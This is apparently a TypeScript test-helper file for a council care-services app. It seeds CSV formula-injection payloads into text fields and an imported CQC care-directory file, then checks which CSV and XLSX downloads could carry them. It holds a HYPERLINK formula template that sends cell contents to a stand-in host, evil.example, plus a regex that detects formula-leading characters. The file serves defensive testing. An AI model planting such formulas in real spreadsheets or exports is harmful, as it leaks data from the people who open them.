import fs from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'

// What csv-formula-safety.db.test.ts seeds and expects: the formulas typed into every text field, the
// downloads each reaches, and a CQC file named with formulas.

export const leading = ['=', '+', '-', '@', '\t', '\r'] as const
export const formula = (c: string, what: string) => `${c}HYPERLINK("http://evil.example/?"&A2,"${what}")`
// What a spreadsheet would run: these characters first, unless the cell is a plain number.
export const runsAsFormula = (cell: string) =>
  /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
export const today = '2020-04-14'
// A nil return's reason and the details typed, as the returns exports write them (text, never run).
export const nilReasonCell = `Another reason: ${formula('=', 'nil details')}`
export const nilId = '00000000-0000-0000-0000-000000000000'
export const csvType = /^text\/csv/
export const xlsxType = /^application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet/

// The CSV downloads, and which of the seeded formulas reach each: all of them, but the CQC importer
// trims a cell (so a leading tab or line break never reaches its problems list), and the enquiry trends
// are counts per category. A CSV route missing here fails the test.
export const visible = ['=', '+', '-', '@']
export const csvDownloads: Record<string, readonly string[]> = {
  '/locations/export.csv': leading,
  '/imports/:id/problems.csv': visible,
  '/returns/upload/template.csv': leading,
  '/enquiries/trends.csv': [],
  '/dashboard/locations.csv': leading,
  '/dashboard/exports/directory.csv': leading,
  '/dashboard/exports/returns.csv': leading,
  '/dashboard/exports/alerts.csv': leading,
  '/dashboard/exports/contacts.csv': leading,
  // Grants: spending by measure; the measures are finance's words, none seeded here.
  '/grants/spend-summary.csv': [],
  // Payments: a run lists the providers' and locations' names; the return and the spending file hold
  // no typed text here (the run is not yet paid).
  '/payments/runs/:id/export.csv': leading,
  '/payments/provider-support.csv': [],
  '/payments/transparency.csv': [],
  '/ppe/chargeable.csv': leading,
  // Stored at publication (issue 24): none of the seeded fields reaches the progress report.
  '/published/:id/versions/:version/report.csv': [],
  // A survey's answers are trimmed (as a return's are): a leading tab or line break never reaches them.
  '/surveys/:id/results.csv': visible,
}

// XLSX downloads with no location in them: still checked for formulas, not for the seeded names.
export const xlsxWithoutLocations = new Set(['/grants/spend-summary.xlsx'])

// A small CQC file in the care directory's own layout: rows the import leaves out, named with formulas,
// and care homes whose beds are formulas; both go into the problems list with the text as it was.
export function cqcFileWithFormulas(councilName: string) {
  const fixture = fs.readFileSync(
    path.resolve('test/fixtures/cqc/cqc_care_directory_with_filters_head_2025.csv'),
  )
  const [header, template] = parse(fixture, { bom: true, relax_column_count: true, to: 2 }) as string[][]
  const column = (name: string) => header!.indexOf(name)
  const row = (i: number, name: string, category: string, types: string, beds: string) => {
    const cells = [...template!]
    cells[column('Location Name')] = name
    cells[column('Location ID')] = `1-9990000${i}`
    cells[column('Location Local Authority')] = councilName
    cells[column('Primary inspection category')] = category
    cells[column('Service Types')] = types
    cells[column('Care homes beds')] = beds
    return cells
  }
  return Buffer.from(
    stringify([
      header!,
      ...leading.map((c, i) => row(i, formula(c, 'dentist'), 'Dentists', 'Dental service', '0')),
      ...leading.map((c, i) =>
        row(10 + i, `Formula Home ${i}`, 'Residential social care', 'Care home service', formula(c, 'beds')),
      ),
    ]),
  )
}
